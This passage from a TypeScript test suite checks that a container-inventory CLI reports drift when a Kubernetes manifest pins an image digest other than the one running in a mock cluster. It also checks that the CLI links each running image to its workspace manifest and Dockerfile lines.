    await server.runPods('shop', { count: 2 });
    kubeconfig = contextOf(server, 'prod');
  });
  after(() => server?.stop());

  test('a reference pinned to another digest than the one running is drift; each running image says where the workspace defines it', async () => {
    const workspace = path.join(cache.dir(), 'repo');
    mkdirSync(path.join(workspace, 'k8s'), { recursive: true });
    const manifest = path.join(workspace, 'k8s', 'api.yaml');
    writeFileSync(
      manifest,
      [
        'apiVersion: apps/v1',
        'kind: Deployment',
        'metadata:',
        '  name: api',
        'spec:',
        '  template:',
        '    spec:',
        '      containers:',
        '        - name: api',
        `          image: ${repository}:1.0@${pinnedDigest}`,
        '        - name: web',
        `          image: registry.example/shop/web:2.0@${digestOf('registry.example/shop/web:2.0')}`,
        '',
      ].join('\n'),
    );
    writeFileSync(path.join(workspace, 'Dockerfile'), `FROM ${repository}:1.0\nUSER 1000\n`);
    const result = await runCli([
      'cluster',
      '--kubeconfig',
      kubeconfig,
      '--trivy',
      STAND_IN,
      '--no-registry',
      '--state',
      path.join(cache.dir(), 'state.json'),
      '--workspace',
      workspace,
      '--format',
      'json',
    ]);
    assert.equal(result.code, 0, result.stderr);
    const report = JSON.parse(result.stdout) as JsonReport;
    assert.deepEqual(report.drift, [
      {
        file: manifest,
        line: 10,
        reference: `${repository}:1.0@${pinnedDigest}`,
        running: [{ context: 'prod', namespace: 'shop', workload: 'Deployment/api', digest: runningDigest }],
      },
    ]);
    const api = report.images.find((i) => i.digest === runningDigest);
    assert.deepEqual(api?.workspace?.map((w) => `${path.relative(workspace, w.file)}:${w.line}`).sort(), [
      'Dockerfile:1',
      `${path.join('k8s', 'api.yaml')}:10`,
    ]);
    const web = report.images.find((i) => i.reference.includes('/web@'));
    assert.deepEqual(
      web?.workspace?.map((w) => w.line),
      [12],
      'pinned to the digest that runs: linked, not drift',
    );
    const table = await runCli([
      'cluster',
      '--kubeconfig',
      kubeconfig,
      '--trivy',
      STAND_IN,
      '--no-registry',
      '--state',
      path.join(cache.dir(), 'state.json'),
      '--workspace',
      workspace,
    ]);
    assert.match(
      table.stdout,
      /^drift: .*api\.yaml:10 pins registry\.example\/shop\/api:1\.0@sha256:a{64}; running sha256:[0-9a-f]{64} in prod\/shop\/Deployment\/api$/m,
    );
    const missing = await runCli(['cluster', '--kubeconfig', kubeconfig, '--workspace', path.join(cache.dir(), 'nowhere')]);
    assert.equal(missing.code, 2);
    assert.match(missing.stderr, /--workspace .*nowhere: no such file or folder/);
  });
});
